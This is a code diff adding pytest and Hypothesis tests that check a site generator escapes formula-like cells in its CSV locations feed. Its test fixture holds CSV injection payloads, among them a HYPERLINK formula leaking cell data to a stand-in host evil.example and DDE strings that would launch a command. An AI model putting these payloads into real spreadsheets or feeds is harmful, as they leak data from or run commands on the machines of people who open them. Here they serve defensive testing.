@@ -7,12 +7,27 @@ import hashlib
 import io
 import json
 import os
+import re
 from pathlib import Path
 
 import pytest
-from conftest import REPO, copy_example, generated_rows, run_cli, small_site, tree_hashes
+from conftest import (
+    BASE_CONFIG,
+    REPO,
+    build,
+    copy_example,
+    csv_text,
+    generated_rows,
+    make_site,
+    run_cli,
+    small_site,
+    tree_hashes,
+)
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from test_hostile_input import assert_geojson_is_the_records
 
+from sitegen.data.feedcsv import neutral, neutral_phone, restored, restored_phone
 from sitegen.urls import slug
 
 API = ("api/locations.json", "api/locations.geojson", "api/locations.csv", "api/manifest.json")
@@ -162,3 +177,83 @@ def test_two_builds_of_the_same_input_are_byte_identical(tmp_path: Path) -> None
     assert one == two
     manifest = (tmp_path / "one/api/manifest.json").read_bytes()
     assert hashlib.sha256(manifest).hexdigest() == two["api/manifest.json"]
+
+
+# --- the CSV feed in a spreadsheet ------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 cr"]
+
+
+def formula_site(root: Path) -> Path:
+    rows = generated_rows(len(FORMULAS))
+    for index, (row, formula) in enumerate(zip(rows, FORMULAS, strict=True)):
+        row.update(name=formula, description=formula, notes=formula,
+                   street=FORMULAS[index - 1] + " Main Street")
+    rows[0]["phone"] = "+44 20 7946 0000"  # E.164 and international display start with +
+    rows[1]["phone"] = "555-0123"          # no area code: written as it is, digits first
+    return make_site(root, {"config/base.yaml": BASE_CONFIG,
+                            "locations/locations.csv": csv_text(rows, quoting=csv.QUOTE_ALL),
+                            "content/about.md": "---\ntitle: About\n---\nHi\n"})
+
+
+def feeds_of(out: Path) -> tuple[list[dict], list[dict[str, str]], str]:
+    """The JSON records and the CSV rows, in id order, and the CSV's text."""
+    records = json.loads((out / "api/locations.json").read_text(encoding="utf-8"))["locations"]
+    text = (out / "api/locations.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    return sorted(records, key=lambda r: r["id"]), sorted(rows, key=lambda r: r["id"]), text
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    site = formula_site(tmp_path / "site")
+    build(site)
+    records, rows, text = feeds_of(site / "dist" / "production")
+    assert [r["name"] for r in records] == [f.strip() for f in FORMULAS]  # JSON: exact
+    for record, row in zip(records, rows, strict=True):
+        for name in ("name", "street", "description"):
+            assert row[name] == "'" + record[name], name
+        assert row["extra.notes"] == "'" + record["extra"]["notes"]
+        assert row["lng"] == str(record["lng"]) and row["lng"].startswith("-")  # a number
+        assert row["city"] == record["city"] and row["hours.monday"] == "09:00-17:00"
+    assert (records[0]["phone"], records[0]["phone_display"]) == ("+442079460000",
+                                                                  "+44 20 7946 0000")
+    assert (rows[0]["phone"], rows[0]["phone_display"]) == ("'+442079460000",
+                                                            "'+44 20 7946 0000")
+    assert (records[1]["phone"], rows[1]["phone"], rows[1]["phone_display"]) == (
+        "555-0123", "'555-0123", "'555-0123")
+    assert rows[2]["phone_display"] == records[2]["phone_display"] == "(217) 555-0003"
+    assert all(line.startswith('"') for line in text.splitlines() if line)  # every field quoted
+    geo = json.loads((site / "dist/production/api/locations.geojson").read_text())
+    assert sorted(f["properties"]["description"] for f in geo["features"]) == \
+        sorted(f.strip() for f in FORMULAS)
+
+
+def test_the_csv_feed_reads_back_as_the_same_locations(tmp_path: Path) -> None:
+    site = formula_site(tmp_path / "site")
+    build(site)
+    original, _, feed = feeds_of(site / "dist" / "production")
+    again = make_site(tmp_path / "again", {
+        "config/base.yaml": BASE_CONFIG, "locations/locations.csv": feed,
+        "content/about.md": "---\ntitle: About\n---\nHi\n"})
+    build(again)
+    read_back, _, feed_again = feeds_of(again / "dist" / "production")
+    for before, after in zip(original, read_back, strict=True):
+        assert {k: v for k, v in after.items() if k != "extra"} == \
+            {k: v for k, v in before.items() if k != "extra"}
+        # columns sitegen has no field for come back as extra columns, under their names
+        assert after["extra"]["extra.notes"] == before["extra"]["notes"]
+        assert after["extra"]["phone_display"] == before["phone_display"]
+
+
+@settings(max_examples=500, deadline=None)
+@given(value=st.text() | st.sampled_from(["'", "''=1", "-5", "-5e-3", "'-5", "+1", "0"])
+       .flatmap(lambda s: st.tuples(st.sampled_from(["", "'", "''", "=", "-", "@", "\t", "\r",
+                                                     "+", "0"]), st.just(s)).map("".join)))
+def test_neutral_cells_never_start_a_formula_and_read_back_exactly(value: str) -> None:
+    cell = neutral(value)
+    assert restored(cell) == value
+    assert not cell[:1] or cell[:1] not in "=+-@\t\r" or re.fullmatch(r"-[0-9.eE+-]+", cell)
+    phone = neutral_phone(value)
+    assert restored_phone(phone) == value
+    assert not phone[:1] or phone[:1] not in "=+-@\t\r0123456789"
